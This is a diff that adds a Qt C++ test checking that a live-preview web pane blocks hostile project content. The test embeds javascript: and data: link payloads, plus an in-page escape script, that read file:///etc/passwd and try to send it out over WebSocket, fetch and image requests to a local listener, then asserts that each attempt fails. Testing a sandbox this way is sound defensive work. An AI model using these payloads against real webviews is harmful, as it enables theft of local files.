@@ -6,6 +6,7 @@
 #include <QImage>
 #include <QSignalSpy>
 #include <QSpinBox>
+#include <QTcpServer>
 #include <QTest>
 #include <QTimer>
 #include <QWebEnginePage>
@@ -155,6 +156,55 @@ class TestLivePreview : public QObject {
       Wait(500);
       QVERIFY2(std::abs(Offset(pane) - held) >= 8, c.what);
     }
+  }
+
+  // A project from anywhere reaches no file and no listener through the pane: its links follow
+  // nothing there (web and mail addresses open in the browser instead), and even script running
+  // in the page gets neither a local file, nor a connection, nor another page.
+  void hostileProjectReachesNothing() {
+    TTestEnvironment env;
+    QTcpServer listener;
+    QVERIFY(listener.listen(QHostAddress::LocalHost));
+    const QString local = QStringLiteral("127.0.0.1:%1").arg(listener.serverPort());
+    const QStringList links = {
+        "javascript:(function(){var x=new XMLHttpRequest();x.open('GET','file:///etc/passwd',"
+        "false);x.send();new WebSocket('ws://" +
+            local + "/?'+x.responseText)})()",
+        "file:///etc/passwd", "data:text/html,<script>fetch('http://" + local + "/d')</script>",
+        "http://" + local + "/page", "mailto:someone@example.org"};
+    const QString project = WriteProject(
+        env.Path("hostile.tvn"), {"0", "0", "0", "0", "0"}, [&](TqelAppletAgent& agent) {
+          for (int i = 0; i < 5; ++i) {
+            TItemData& item = agent.Items[size_t(i)];
+            item.ILink = links[i].toStdString();
+            item.OriginalImagePath =
+                MakeJpeg(env.Path(QString("p%1.jpg").arg(i)), 90, 60).toStdString();
+          }
+        });
+    TMainForm form(env.ProgramFolder());
+    auto& pane = *form.LivePreview();
+    QSignalSpy shown(&pane, &TLivePreviewPane::PageShown);
+    QVERIFY(form.OpenProjectFile(project));
+    form.show();
+    QVERIFY2(NextPage(shown), qPrintable(pane.StatusText()));
+    const QUrl page = pane.ShownView()->url();
+    QCOMPARE(page.scheme(), QStringLiteral("torvane-live"));
+    for (int i = 0; i < 5; ++i) {
+      Run(pane, QString("document.querySelectorAll('.torvane-box a')[%1].click()").arg(i));
+      Wait(300);
+      QCOMPARE(env.launcher.documents.contains(links[i]), i >= 3);
+      QVERIFY(pane.StatusText().contains(i >= 3 ? "in your browser" : "is not followed"));
+    }
+    const QString escape = QStringLiteral(
+        "var got = ''; try { var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', "
+        "false); x.send(); got = x.responseText; } catch (e) {} new WebSocket('ws://%1/s');"
+        "fetch('http://%1/f'); new Image().src = 'http://%1/i'; location.href = 'file:///etc/'; "
+        "got");
+    QCOMPARE(Run(pane, escape.arg(local)).toString(), QString());
+    Wait(1500);
+    QVERIFY(!listener.hasPendingConnections());
+    QCOMPARE(pane.ShownView()->url(), page);
+    QCOMPARE(env.launcher.documents.size(), 2);
   }
 
   void missingPicturePreviews() {
